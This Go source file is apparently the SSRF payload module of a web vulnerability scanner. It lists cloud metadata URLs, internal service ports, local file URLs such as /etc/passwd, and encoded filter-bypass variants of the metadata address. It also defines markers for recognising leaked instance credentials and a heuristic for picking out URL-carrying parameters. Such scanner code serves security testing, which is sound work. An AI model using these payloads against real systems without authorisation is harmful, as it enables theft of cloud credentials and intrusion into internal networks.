package payloads

import "strings"

// SSRFClass ranks targets by sensitivity.
type SSRFClass int

const (
	SSRFMetadata SSRFClass = iota
	SSRFInternal
	SSRFLocal
)

func (c SSRFClass) String() string {
	switch c {
	case SSRFMetadata:
		return "metadata"
	case SSRFInternal:
		return "internal"
	case SSRFLocal:
		return "local"
	}
	return "unknown"
}

// SSRFTarget is one address substituted into a candidate parameter.
type SSRFTarget struct {
	URL     string
	Class   SSRFClass
	Label   string
	Markers []string // Lower-case substrings that prove the target answered.
	Encoded bool     // Alternate spelling of another target.
}

var (
	awsMarkers    = []string{"ami-id", "instance-id", "security-credentials", "iam/", "local-ipv4"}
	gcpMarkers    = []string{"computemetadata", "project-id", "service-accounts"}
	azureMarkers  = []string{"\"compute\"", "vmid", "subscriptionid", "azenvironment"}
	passwdMarkers = []string{"root:x:0:0:", "daemon:x:1:1:"}
)

// SSRFTargets is the battery, most sensitive first. Encoded variants come last so a
// plain hit is always reported under its plain spelling.
var SSRFTargets = []SSRFTarget{
	{URL: "http://169.254.169.254/latest/meta-data/", Class: SSRFMetadata, Label: "AWS IMDS", Markers: awsMarkers},
	{URL: "http://metadata.google.internal/computeMetadata/v1/", Class: SSRFMetadata, Label: "GCP metadata", Markers: gcpMarkers},
	{URL: "http://169.254.169.254/metadata/instance?api-version=2021-02-01", Class: SSRFMetadata, Label: "Azure IMDS", Markers: azureMarkers},
	{URL: "http://100.100.100.200/latest/meta-data/", Class: SSRFMetadata, Label: "Alibaba metadata", Markers: []string{"instance-id", "image-id", "region-id"}},
	{URL: "http://169.254.169.254/opc/v2/instance/", Class: SSRFMetadata, Label: "Oracle Cloud metadata", Markers: []string{"availabilitydomain", "compartmentid"}},

	{URL: "http://127.0.0.1:22/", Class: SSRFInternal, Label: "SSH", Markers: []string{"ssh-2.0", "openssh"}},
	{URL: "http://127.0.0.1:3306/", Class: SSRFInternal, Label: "MySQL", Markers: []string{"mysql_native_password", "caching_sha2_password"}},
	{URL: "http://127.0.0.1:6379/", Class: SSRFInternal, Label: "Redis", Markers: []string{"-err wrong number", "-noauth", "redis_version"}},
	{URL: "http://127.0.0.1:11211/", Class: SSRFInternal, Label: "Memcached", Markers: []string{"error\r\n", "stat pid"}},
	{URL: "http://10.0.0.1/", Class: SSRFInternal, Label: "RFC1918 10/8"},
	{URL: "http://192.168.0.1/", Class: SSRFInternal, Label: "RFC1918 192.168/16"},
	{URL: "http://172.16.0.1/", Class: SSRFInternal, Label: "RFC1918 172.16/12"},

	{URL: "http://127.0.0.1/", Class: SSRFLocal, Label: "loopback"},
	{URL: "http://localhost/admin", Class: SSRFLocal, Label: "loopback admin", Markers: []string{"<title>administration", "admin interface"}},
	{URL: "http://[::1]/", Class: SSRFLocal, Label: "IPv6 loopback"},
	{URL: "file:///etc/passwd", Class: SSRFLocal, Label: "local file", Markers: passwdMarkers},
	{URL: "file:///c:/windows/win.ini", Class: SSRFLocal, Label: "local file", Markers: []string{"[fonts]", "[extensions]"}},

	{URL: "http://2852039166/latest/meta-data/", Class: SSRFMetadata, Label: "AWS IMDS (decimal)", Markers: awsMarkers, Encoded: true},
	{URL: "http://0xa9fea9fe/latest/meta-data/", Class: SSRFMetadata, Label: "AWS IMDS (hex)", Markers: awsMarkers, Encoded: true},
	{URL: "http://0251.0376.0251.0376/latest/meta-data/", Class: SSRFMetadata, Label: "AWS IMDS (octal)", Markers: awsMarkers, Encoded: true},
	{URL: "http://[::ffff:a9fe:a9fe]/latest/meta-data/", Class: SSRFMetadata, Label: "AWS IMDS (IPv6-mapped)", Markers: awsMarkers, Encoded: true},
	{URL: "http://2130706433/", Class: SSRFLocal, Label: "loopback (decimal)", Encoded: true},
	{URL: "http://0x7f000001/", Class: SSRFLocal, Label: "loopback (hex)", Encoded: true},
	{URL: "http://127.1/", Class: SSRFLocal, Label: "loopback (short)", Encoded: true},
	{URL: "http://0.0.0.0/", Class: SSRFLocal, Label: "unspecified address", Encoded: true},
	{URL: "http%3A%2F%2F127.0.0.1%2F", Class: SSRFLocal, Label: "loopback (URL-encoded)", Encoded: true},
}

// MetadataDocumentKeys are JSON keys of cloud metadata documents (instance identity,
// credentials, project and VM descriptions), mapped to the provider that uses them.
// Keys are case-sensitive.
var MetadataDocumentKeys = map[string]string{
	"instanceId":          "AWS",
	"imageId":             "AWS",
	"accountId":           "AWS",
	"availabilityZone":    "AWS",
	"privateIp":           "AWS",
	"instanceType":        "AWS",
	"AccessKeyId":         "AWS",
	"SecretAccessKey":     "AWS",
	"projectId":           "GCP",
	"numericProjectId":    "GCP",
	"serviceAccounts":     "GCP",
	"machineType":         "GCP",
	"vmId":                "Azure",
	"subscriptionId":      "Azure",
	"resourceGroupName":   "Azure",
	"azEnvironment":       "Azure",
	"compartmentId":       "Oracle Cloud",
	"availabilityDomain":  "Oracle Cloud",
	"canonicalRegionName": "Oracle Cloud",
}

// MetadataDocumentMinKeys is how many known keys a JSON document needs to pass as a
// metadata document.
const MetadataDocumentMinKeys = 2

// SSRFControlURL never resolves; its response is what a failed outbound fetch looks like.
const SSRFControlURL = "http://kalki-ssrf-control.invalid/"

// SSRFParamNames are parameter names that commonly carry an outbound URL.
var SSRFParamNames = []string{
	"url", "uri", "dest", "destination", "redirect", "redirect_uri", "path", "site", "feed",
	"image", "img", "src", "callback", "return", "return_url", "next", "link", "proxy",
	"target", "host", "file", "load", "fetch", "domain", "continue",
}

// SSRFFailureKeywords mark a response that reports a failed outbound connection.
var SSRFFailureKeywords = []string{
	"connection refused", "could not connect", "failed to connect", "unable to connect",
	"network is unreachable", "no route to host", "timed out", "name or service not known",
	"could not resolve", "no such host", "invalid url", "getaddrinfo",
}

// IsSSRFParam reports whether name or value suggests the parameter feeds an outbound request.
func IsSSRFParam(name, value string) bool {
	n := strings.ToLower(name)
	for _, candidate := range SSRFParamNames {
		if n == candidate || strings.HasSuffix(n, "_"+candidate) || strings.HasPrefix(n, candidate+"_") {
			return true
		}
	}
	v := strings.ToLower(strings.TrimSpace(value))
	return strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "//")
}
